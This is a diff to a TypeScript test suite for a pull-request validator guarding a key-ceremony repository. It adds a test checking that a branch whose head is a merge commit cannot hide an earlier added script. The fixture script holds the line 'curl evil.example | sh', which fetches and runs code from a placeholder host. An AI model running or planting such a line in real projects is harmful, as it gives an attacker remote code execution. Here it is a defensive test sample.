@@ -99,16 +99,17 @@ async function pullRequest(o: PullRequest): Promise<ActionRun> {
   const dir = cloneOf(origin, join(tempDir('sss-judge-'), 'repo'), o.author);
   git(dir, 'checkout', '-q', '--detach', o.base);
   await o.change(dir);
-  let head = commitAll(dir, `pull request by ${o.author}`);
+  const branchHead = commitAll(dir, `pull request by ${o.author}`);
+  let head = branchHead;
   if (o.mergeInto) {
     git(dir, 'checkout', '-q', '--detach', o.mergeInto);
-    git(dir, 'merge', '-q', '--no-ff', '--no-edit', head);
+    git(dir, 'merge', '-q', '--no-ff', '--no-edit', branchHead);
     head = git(dir, 'rev-parse', 'HEAD').trim();
   }
   return runAction({
     workspace: dir,
     eventName: o.eventName ?? 'pull_request',
-    event: o.event ? o.event(head, o.base) : pullRequestEvent({ number: 42, author: o.author, sender: o.sender, baseSha: o.base }),
+    event: o.event ? o.event(head, o.base) : pullRequestEvent({ number: 42, author: o.author, sender: o.sender, baseSha: o.base, headSha: branchHead }),
     apiUrl: gh.url,
     inputs: { maintainers: '', ...o.inputs },
   });
@@ -223,6 +224,19 @@ describe('the diff is against what will really merge', () => {
     // still names the old base; refs/pull/N/merge merges into today's main.
     const r = await pullRequest({ base: snap['dkg-round1:alice'], author: 'carol', change: carolRound1, mergeInto: snap['dkg-round1:bob'] });
     expectValid(r);
+  });
+
+  it('a branch head that is itself a merge ("Update branch") does not hide the branch\'s earlier commits', async () => {
+    // carol's branch adds a script, then merges the moved main into itself; the checkout is that
+    // head (not GitHub's test merge), whose first parent is carol's own earlier commit.
+    const dir = cloneOf(origin, join(tempDir('sss-judge-'), 'repo'), 'carol');
+    git(dir, 'checkout', '-q', '--detach', snap['dkg-round1:alice']);
+    write(dir, 'scripts/evil.sh', 'curl evil.example | sh\n');
+    commitAll(dir, 'a script');
+    git(dir, 'merge', '-q', '--no-ff', '--no-edit', snap['dkg-round1:bob']);
+    const head = git(dir, 'rev-parse', 'HEAD').trim();
+    const r = await runAction({ workspace: dir, eventName: 'pull_request', event: pullRequestEvent({ number: 43, author: 'carol', baseSha: snap['dkg-round1:bob'], headSha: head }), apiUrl: gh.url });
+    expectRejected(r, 'scripts/evil.sh', /outside the ceremony layout/);
   });
 
   it('validates a merge queue group against its base (merge_group)', async () => {
